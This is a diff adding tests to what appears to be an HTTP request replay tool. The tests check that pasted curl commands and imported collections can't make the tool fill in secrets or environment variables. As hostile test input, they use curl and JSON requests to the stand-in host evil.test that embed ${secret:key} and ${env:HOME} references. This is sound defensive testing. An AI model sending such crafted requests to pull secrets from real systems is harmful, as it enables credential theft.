@@ -4,6 +4,7 @@ import fc from 'fast-check'
 import { describe, expect, it } from 'vitest'
 import type { ReplayRequest } from '../../gateway-core/protocol/replay-request.ts'
 import { importRequests } from '../../gateway-core/replay/import/import.ts'
+import { resolveRequest, type Sources } from '../../gateway-core/replay/resolve.ts'
 
 const read = (text: string, name = 'pasted') => importRequests(text, { name })
 const told = (text: string, name?: string) =>
@@ -298,6 +299,52 @@ paths:
       `--${boundary}\r\nContent-Disposition: form-data; name="a"\r\n\r\ntext\r\n--${boundary}\r\nContent-Disposition: form-data; name="n"\r\n\r\n1\r\n--${boundary}--\r\n`,
     )
     expect(textOf(body('application/xml'))).toBe('<Book>\n  <a>text</a>\n  <n>1</n>\n</Book>')
+  })
+})
+
+describe('what somebody else wrote', () => {
+  const given: string[] = []
+  const sources: Sources = {
+    variables: new Map(),
+    sealed: () => undefined,
+    reference: async (kind, name) => {
+      given.push(`${kind} ${name}`)
+      return 'a secret of mine'
+    },
+    file: async () => Buffer.alloc(0),
+    recorded: async () => Buffer.alloc(0),
+  }
+  const sent = async (text: string) => resolveRequest(read(text).requests[0]!.request, sources)
+
+  it('gets no secret of whoever sends it', async () => {
+    const hostile = '${secret:key} ${env:HOME} $${secret:key} $$${env:HOME} ${x} $${y}'
+    const commands = [
+      `curl http://evil.test/ -H 'X: ${hostile}' --data-raw '${hostile}'`,
+      JSON.stringify({
+        item: [
+          {
+            request: {
+              method: 'POST',
+              url: 'http://evil.test',
+              header: [{ key: 'X', value: hostile }],
+              body: { mode: 'raw', raw: hostile },
+            },
+          },
+        ],
+      }),
+    ]
+    for (const text of commands) {
+      const { fields, body } = await sent(text)
+      expect([fields[0]![1], body!.toString()]).toEqual([hostile, hostile])
+    }
+    await expect(sent("curl 'http://evil.test/?{{$processEnv HOME}}{{$env.HOME}}'")).rejects.toMatchObject({
+      message: 'the URL uses {{HOME}}, which has no value',
+    })
+    expect(given).toEqual([])
+  })
+
+  it('keeps references in a .http file, which is a form of ours', () => {
+    expect(read('GET /\nA: ${secret:key}\n', 'a.http').requests[0]!.request.headers[0]!.value).toBe('${secret:key}')
   })
 })
 
